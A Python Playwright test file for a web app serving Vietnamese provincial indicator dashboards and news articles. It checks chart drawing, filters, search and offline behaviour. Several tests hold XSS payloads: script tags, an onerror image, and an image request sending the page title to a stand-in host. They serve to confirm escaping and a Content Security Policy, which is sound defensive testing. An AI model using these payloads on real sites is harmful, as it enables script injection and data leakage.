"""What a person sees: a real Chromium on the real server. Charts draw, nothing leaves this machine, hostile text stays text."""

from __future__ import annotations

import re
from collections.abc import Iterator
from dataclasses import dataclass, field
from pathlib import Path
from urllib.parse import urlsplit

import pytest
from playwright.sync_api import Browser, ConsoleMessage, Error, Page, Request, Route, expect

from docs.screenshots import FOLDER, take
from flows.browsing.dashboards import ORDER, dashboards
from tests.browse.conftest import ATTACK, HOSTILE_TITLE, Served

pytestmark = pytest.mark.browser


def _charts(library: str) -> dict[str, list[str]]:
    return {
        slug: [name for name, chart in board["charts"].items() if chart["library"] == library]
        for slug, board in dashboards().items()
    }


PICTURES, TABLES = _charts("vega-lite"), _charts("table")
MARKS = "svg .role-mark path, svg .role-mark rect"


@dataclass
class Window:
    """A browser window that notes what goes wrong in it."""

    page: Page
    address: str
    complaints: list[str] = field(default_factory=list)
    strangers: list[str] = field(default_factory=list)

    def open(self, path: str) -> Page:
        self.page.goto(self.address + path)
        return self.page

    def note_console(self, message: ConsoleMessage) -> None:
        if message.type in ("error", "warning"):
            self.complaints.append(message.text)

    def note_error(self, error: Error) -> None:
        self.complaints.append(str(error))

    def route(self, route: Route, request: Request) -> None:
        if urlsplit(request.url).scheme in ("http", "https") and request.url.startswith(self.address + "/"):
            route.continue_()
        else:
            self.strangers.append(request.url)
            route.abort()


@pytest.fixture
def window(browser: Browser, served: Served) -> Iterator[Window]:
    """Closed again with the check that nothing was complained of and no other machine asked."""
    context = browser.new_context(viewport={"width": 1200, "height": 900})
    context.set_default_timeout(15_000)
    opened = Window(context.new_page(), served.address)
    context.route("**/*", opened.route)
    context.on("console", opened.note_console)
    context.on("weberror", lambda error: opened.note_error(error.error))
    yield opened
    assert not opened.page.evaluate("() => 'pwned' in window"), "text of an article was run"
    context.close()
    assert opened.complaints == []
    assert opened.strangers == []


def _drawn(page: Page) -> None:
    expect(page.locator(".drawing[data-drawn]")).to_have_count(page.locator(".drawing").count())
    expect(page.locator(".drawing .failed")).to_have_count(0)


@pytest.mark.parametrize(
    "path",
    [
        "/",
        "/-/dashboards",
        "/-/search?q=dong+thap",
        "/article/1",
        "/warehouse",
        "/warehouse/articles",
        "/warehouse/articles/1",
        "/warehouse/current_observations",
        "/warehouse/latest_numbers",
        "/warehouse?sql=SELECT+title+FROM+articles",
    ],
)
def test_pages_load_without_a_complaint(window: Window, path: str) -> None:
    page = window.open(path)
    expect(page.locator("h1")).to_be_visible()
    assert page.title()


@pytest.mark.parametrize("slug", ORDER)
def test_charts_draw(window: Window, slug: str) -> None:
    page = window.open(f"/-/dashboards/{slug}")
    _drawn(page)
    for name in PICTURES[slug]:
        assert page.locator(f"#chart-{name}").locator(MARKS).count() > 0, name
        box = page.locator(f"#chart-{name} svg").first.bounding_box()
        assert box is not None
        assert box["width"] > 300
    for name in TABLES[slug]:
        assert page.locator(f"#chart-{name} tbody tr").count() > 0, name


def test_axes_are_numbered_as_vietnamese_is_written(window: Window) -> None:
    page = window.open("/-/dashboards/provinces?indicator=jobs_created")
    _drawn(page)
    labels = [label for label in page.locator("svg .role-axis-label text").all_text_contents() if label[:1].isdigit()]
    assert any(re.fullmatch(r"\d{1,3}(\.\d{3})+(,\d+)?", label) for label in labels), labels
    assert not any(re.search(r"\d,\d{3}\b", label) for label in labels), labels


def test_one_chart_has_a_page_of_its_own(window: Window) -> None:
    page = window.open("/-/dashboards/indicator?indicator=jobs_created")
    _drawn(page)
    page.get_by_role("link", name="Theo năm · by year").click()
    page.wait_for_url("**/-/dashboards/indicator/values?indicator=jobs_created")
    _drawn(page)
    assert page.locator(MARKS).count() > 0


def test_filters_choose_indicator_province_and_years(window: Window) -> None:
    page = window.open("/-/dashboards/indicator")
    expect(page).to_have_url(re.compile("indicator=poor_household_rate"))
    page.get_by_role("combobox", name="Chỉ số · indicator").select_option(label="Ngày công lao động đóng góp")
    page.get_by_role("button", name="Xem · Apply").click()
    _drawn(page)
    province, rows = page.get_by_role("combobox", name="Tỉnh · province"), page.locator("#chart-rows tbody tr")
    everything = rows.count()
    years = rows.locator("td:nth-child(2)").all_inner_texts()
    assert everything > 4
    province.select_option("An Giang")
    page.get_by_role("spinbutton", name="Từ năm · from year").fill("2018")
    page.get_by_role("button", name="Xem · Apply").click()
    page.wait_for_url("**place=An+Giang**")
    _drawn(page)
    assert 0 < rows.count() < everything
    assert set(rows.locator("td:nth-child(1)").all_inner_texts()) == {"An Giang"}
    assert set(rows.locator("td:nth-child(2)").all_inner_texts()) <= {year for year in years if year >= "2018"}
    expect(province).to_have_value("An Giang")


def test_a_choice_without_numbers_says_so(window: Window) -> None:
    page = window.open("/-/dashboards/provinces?indicator=poor_household_rate&from_year=2090")
    _drawn(page)
    expect(page.locator(".nothing")).to_have_count(3)


def test_from_a_number_to_its_place_in_the_article_and_to_the_portal(window: Window) -> None:
    page = window.open("/-/dashboards/newest?portal=baodaklak")
    _drawn(page)
    row = page.locator("#chart-rows tbody tr").first
    row.get_by_role("link", name="bài · article").click()
    mark = page.locator("mark.chosen")
    expect(mark).to_be_visible()
    expect(mark).to_be_in_viewport()
    assert re.search(r"\d", mark.inner_text())
    portal = page.get_by_role("link", name="bài gốc · at the portal")
    assert re.match(r"https?://", portal.get_attribute("href") or "")
    assert "noopener" in (portal.get_attribute("rel") or "")
    assert portal.get_attribute("target") == "_blank"


@pytest.mark.parametrize("typed", ["dong thap", "Đồng Tháp"])
def test_the_search_box_of_every_page_finds(window: Window, typed: str) -> None:
    page = window.open("/-/dashboards")
    page.get_by_role("search").get_by_role("searchbox").fill(typed)
    page.get_by_role("search").get_by_role("button").click()
    page.wait_for_url("**/-/search?**")
    assert page.locator(".hits li").count() >= 5
    expect(page.locator(".hits mark", has_text="Đồng").first).to_be_visible()
    page.locator(".hits a").first.click()
    page.wait_for_url("**/article/*")
    expect(page.locator("article")).to_contain_text("Đồng Tháp")


def test_facets_narrow_a_table(window: Window) -> None:
    page = window.open("/warehouse/articles")
    everything = page.locator("h3").first.inner_text()
    page.locator("#facet-portal").get_by_role("link", name="Báo Đồng Tháp").click()
    page.wait_for_url("**portal=baodongthap**")
    narrowed = page.locator("h3").first.inner_text()
    assert int(narrowed.split()[0]) < int(everything.split()[0])


def test_hostile_text_stays_text(window: Window) -> None:
    page = window.open("/-/search?q=pwned")
    page.locator(".hits a").first.click()
    page.wait_for_url("**/article/*")
    assert HOSTILE_TITLE in page.locator("h1").inner_text()
    expect(page.locator("article .body")).to_contain_text(ATTACK)
    expect(page.locator("article img, article script")).to_have_count(0)
    expect(page.locator("a[href^='javascript']")).to_have_count(0)
    for slug in ("newest", "conflicts"):
        window.open(f"/-/dashboards/{slug}")
        _drawn(page)
        expect(page.locator("#chart-rows")).to_contain_text("<script>window.pwned=1</script>")
        expect(page.locator(".drawing img, .drawing script, .drawing a[href^='javascript']")).to_have_count(0)


def test_should_markup_get_through_the_browser_still_refuses_it(window: Window) -> None:
    """The second wall: as if a template had failed to escape."""
    page = window.open("/article/1")
    page.evaluate(
        """() => {
            document.body.insertAdjacentHTML("beforeend", '<img src="data:," onerror="window.pwned = 1">');
            const script = document.createElement("script");
            script.textContent = "window.pwned = 1";
            document.body.append(script);
            const away = document.createElement("img");
            away.src = "https://elsewhere.example/?" + document.title;
            document.body.append(away);
        }"""
    )
    page.wait_for_timeout(300)
    refused = [text for text in window.complaints if "Content Security Policy" in text]
    assert len(refused) == 3
    window.complaints.clear()


def test_a_narrow_screen_shows_the_dashboard_without_scrolling_sideways(window: Window) -> None:
    window.page.set_viewport_size({"width": 400, "height": 800})
    page = window.open("/-/dashboards/health")
    _drawn(page)
    assert page.evaluate("() => document.documentElement.scrollWidth") <= 400


def test_the_pictures_of_the_docs_can_be_made_anew(browser: Browser, served: Served, tmp_path: Path) -> None:
    take(browser, served.address, tmp_path)
    made = {picture.name for picture in tmp_path.iterdir()}
    kept = {picture.name: picture for picture in FOLDER.iterdir()}
    assert made == set(kept)
    text = (FOLDER.parent / "browsing.md").read_text("utf-8")
    for name, picture in kept.items():
        assert f"images/{name}" in text
        assert picture.read_bytes().startswith(b"\x89PNG")
        assert picture.stat().st_size < 150_000
